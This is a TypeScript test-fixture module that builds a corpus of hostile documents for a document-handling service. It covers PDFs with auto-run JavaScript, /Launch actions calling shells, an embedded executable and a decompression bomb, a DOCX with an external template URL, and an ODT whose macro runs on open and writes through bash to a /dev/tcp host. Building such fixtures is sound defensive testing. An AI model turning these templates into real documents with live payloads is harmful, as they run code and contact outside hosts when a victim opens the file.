/**
 * The tests' corpus of hostile documents, made here byte by byte (no fixture from elsewhere): PDFs
 * with JavaScript, /Launch and /OpenAction, an embedded file, an XFA form, a page of 10,001 px,
 * 600 pages, a decompression bomb, a slow page, a truncated file, and a file that is not what its
 * name says.
 */
import { crc32, deflateSync } from 'node:zlib';

/** A PDF from its objects' bodies (object n is objects[n-1]), with a correct cross-reference table. */
export function pdfOf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(length);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n')]);
    parts.push(b);
    length += b.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer, deflate = false): Buffer {
  const body = deflate ? deflateSync(data) : data;
  return Buffer.concat([Buffer.from(`<< ${dict}${deflate ? ' /Filter /FlateDecode' : ''} /Length ${body.length} >>\nstream\n`), body, Buffer.from('\nendstream')]);
}

const PAGE_CONTENT = Buffer.from('BT /F1 36 Tf 72 700 Td (CLOISON TEST PAGE) Tj ET 0 0 1 rg 72 300 300 200 re f 1 0 0 rg 300 100 200 100 re f');
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A one-page document whose catalogue carries `catalogExtra` and whose page carries `pageExtra`. */
function onePage(catalogExtra: string, pageExtra = '', more: Array<string | Buffer> = []): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${pageExtra} >>`,
    stream('', PAGE_CONTENT),
    FONT,
    ...more,
  ]);
}

export const hostile = {
  plain: () => onePage(''),
  javascript: () => onePage('/OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\); this.exportDataObject\\({cName: "x", nLaunch: 2}\\);) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>'),
  launch: () => onePage('/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /Link /Rect [72 300 372 500] /A << /S /Launch /F (/usr/bin/xterm) >> >>']),
  embeddedFile: () =>
    onePage('/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >>', '/Annots [8 0 R]', [
      '<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile', Buffer.from('MZ-EMBEDDED-PAYLOAD-7d1e')),
      '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>',
    ]),
  xfa: () => onePage('/AcroForm << /Fields [] /XFA 6 0 R >>', '', [stream('', Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox("XFA-PAYLOAD")</script></xdp:xdp>'))]),
  /** A page of 10,001 px at 150 dpi. */
  hugePage: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${(10_001 * 72) / 150} 600] /Contents 4 0 R >>`, stream('', Buffer.from('0 0 1 rg 0 0 100 100 re f'))]),
  pages: (n: number) => {
    const kids = Array.from({ length: n }, (_, i) => `${i + 5} 0 R`).join(' ');
    return pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${n} >>`,
      stream('', PAGE_CONTENT),
      FONT,
      ...Array.from({ length: n }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R >>'),
    ]);
  },
  /** 256 MiB of content stream from a quarter of a MiB. */
  decompressionBomb: () =>
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>', stream('', Buffer.alloc(256 * 1024 * 1024, 0x20), true)]),
  /** A page that takes the renderer long: hundreds of thousands of tiny fills. */
  slowPage: (fills = 400_000) => {
    const ops: string[] = [];
    for (let i = 0; i < fills; i++) ops.push(`${i % 600} ${(i * 7) % 780} 0.5 0.5 re f`);
    return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>', stream('', Buffer.from(ops.join('\n')), true)]);
  },
  truncated: () => {
    const whole = onePage('');
    return whole.subarray(0, Math.floor(whole.length / 2));
  },
  /** Says %PDF- and is nothing of the kind. */
  notAPdf: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 131) % 251))]),
};

/** A ZIP archive of stored (uncompressed) entries, in the order given: enough for ODF and OOXML. */
export function zipOf(entries: Array<[string, string | Buffer]>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
    const nameBytes = Buffer.from(name, 'utf8');
    const crc = crc32(data) >>> 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/** A DOCX whose settings point at an external template (`templateUrl`, fetched by Word on open). */
export function docxWithExternalTemplate(text: string, templateUrl: string): Buffer {
  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  return zipOf([
    ['[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>'],
    ['_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'],
    ['word/_rels/document.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${templateUrl}/image.png" TargetMode="External"/></Relationships>'],
    ['word/_rels/settings.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${templateUrl}/template.dotm" TargetMode="External"/></Relationships>`],
    ['word/settings.xml', `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="${W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`],
    ['word/document.xml', `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:rPr><w:sz w:val="72"/></w:rPr><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`],
  ]);
}

/**
 * An ODT whose Basic macro runs on open (dom:load) and would write the file `marker` (an absolute
 * path), then through a shell write `marker`-shell and connect to `connectTo` (host/port).
 */
export function odtWithMacro(text: string, marker: string, connectTo = '127.0.0.1/9'): Buffer {
  const module = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
  Dim n As Integer
  n = FreeFile
  Open "${marker}" For Output As #n
  Print #n, "macro ran"
  Close #n
  Shell("/bin/bash", 0, "-c ""echo macro ran &gt; ${marker}-shell; echo macro ran &gt; /dev/tcp/${connectTo}""")
End Sub
</script:module>`;
  return zipOf([
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    ['META-INF/manifest.xml', '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/></manifest:manifest>'],
    ['content.xml', `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" office:version="1.2"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>${text}</text:p></office:text></office:body></office:document-content>`],
    ['Basic/script-lc.xml', '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd"><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>'],
    ['Basic/Standard/script-lb.xml', '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd"><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>'],
    ['Basic/Standard/Module1.xml', module],
  ]);
}
